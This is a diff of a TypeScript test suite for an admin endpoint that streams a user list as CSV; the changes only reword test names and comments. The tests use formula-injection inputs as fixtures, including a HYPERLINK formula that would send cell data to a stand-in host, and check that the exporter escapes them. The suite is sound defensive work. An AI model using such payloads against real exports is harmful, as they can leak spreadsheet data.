@@ -17,7 +17,7 @@ beforeAll(async () => {
   superuser = await createStaff('superuser')
 })
 
-/** A reader of RFC 4180 that knows nothing of how the file was written. */
+/** An RFC 4180 parser, independent of the writer. */
 function readCsv(text: string): string[][] {
   const rows: string[][] = [[]]
   const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
@@ -45,7 +45,7 @@ const file = async (values: unknown[]) => {
   return decode(await new Response(stream).arrayBuffer()).slice(1)
 }
 
-describe('a file', () => {
+describe('a CSV file', () => {
   it.each([
     ['=1+1', `"'=1+1"`],
     ['+79174445566', `"'+79174445566"`],
@@ -56,7 +56,7 @@ describe('a file', () => {
     ['\n=1', `"'\n'=1"`],
     ['  =1', `"'  =1"`],
     ['＝1+1', `"'＝1+1"`],
-    // Behind the first column, whoever splits at semicolons finds cells in the middle of a text.
+    // Not in the first column: programs that split at semicolons would break the cell.
     ['a;=1', `"a;'=1"`],
     ['a; "=1;-2', `"a;' ""=1;'-2"`],
     ['a;＝1', `"a;'＝1"`],
@@ -71,7 +71,7 @@ describe('a file', () => {
     expect(await file([value])).toBe(`"A"\r\n${cell}\r\n`)
   })
 
-  it('passes over empty pages, and tells the source when nobody reads on', async () => {
+  it('skips empty pages and stops the source when the reader stops', async () => {
     let [read, ended] = [0, false]
     const pages = async function* () {
       try {
@@ -87,7 +87,7 @@ describe('a file', () => {
     const reader = stream.getReader()
     const chunks = [await reader.read(), await reader.read(), await reader.read()]
     expect(chunks.map(({ value }) => new TextDecoder().decode(value))).toEqual(['"A"\r\n', '2\r\n', '4\r\n'])
-    // One page ahead of the reader at the most: the list is never in memory.
+    // At most one page ahead of the reader: the list is never held in memory.
     expect(read).toBe(4)
     await reader.cancel()
     expect(ended).toBe(true)
@@ -95,7 +95,7 @@ describe('a file', () => {
 })
 
 describe('GET /admin/users.csv', () => {
-  it('holds everybody whom the list holds, once', async () => {
+  it('contains everyone in the list once', async () => {
     const response = await download()
     expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
     expect(response.headers.get('content-disposition')).toBe('attachment; filename="people.csv"')
@@ -112,7 +112,7 @@ describe('GET /admin/users.csv', () => {
     )
   })
 
-  it('keeps the filter and the order, and its headings are in the language', async () => {
+  it('keeps filter and order, and has translated headings', async () => {
     const response = await download('?country=DE&active=false&ordering=oldest', { language: 'ru' })
     const [heading, ...rows] = readCsv(decode(await response.arrayBuffer()).slice(1))
     expect(heading).toEqual(expect.arrayContaining(['Телефон', 'Страна', 'Причина блокировки']))
@@ -122,14 +122,14 @@ describe('GET /admin/users.csv', () => {
     expect(rows.map(([id]) => Number(id))).toEqual(results.map(({ id }) => id))
   })
 
-  it('makes names that are formulas inert', async () => {
+  it('escapes names that are formulas', async () => {
     const name = '=HYPERLINK("http://x.example?"&A1,"ok")'
     await env.DB.prepare('UPDATE users SET first_name = ? WHERE id = 2').bind(name).run()
     const [, row] = readCsv(decode(await (await download('?search=HYPERLINK')).arrayBuffer()).slice(1))
     expect(row?.[3]).toBe(`'${name}`)
   })
 
-  it('records that it was taken, and never what was searched for', async () => {
+  it('is audited without the search text', async () => {
     await (await download('?search=79175000017&country=RU')).arrayBuffer()
     const event = await env.DB.prepare(
       `SELECT * FROM audit_events WHERE action = 'list_exported' ORDER BY id DESC LIMIT 1`,
@@ -138,7 +138,7 @@ describe('GET /admin/users.csv', () => {
     expect(JSON.parse(String(event?.['details']))).toEqual({ list: 'people', filter: { search: true, country: 'RU' } })
   })
 
-  it('is read from the database no faster than by its reader, 500 people at a time', async () => {
+  it('reads the database at the speed of its reader, 500 people at a time', async () => {
     test.d1.reset()
     const response = await download()
     const reader = response.body!.getReader()
@@ -147,13 +147,13 @@ describe('GET /admin/users.csv', () => {
       await reader.read()
       trips.push(test.d1.counts.trips)
     }
-    // The sign-in, the audit and the first page; then one page for each chunk.
+    // Authentication, the audit event and the first page; then one page per chunk.
     expect(trips).toEqual([3, 4, 5, 6])
     await reader.cancel()
     expect(test.d1.counts.trips).toBe(6)
   })
 
-  it('breaks off when the database does, and does not end as if it were whole', async () => {
+  it('breaks off when the database fails instead of ending as if complete', async () => {
     const { openDatabase } = failBefore({ from: 7 })
     const response = await download('', { app: createTestApp({ ports: { openDatabase } }) })
     expect(response.status).toBe(200)
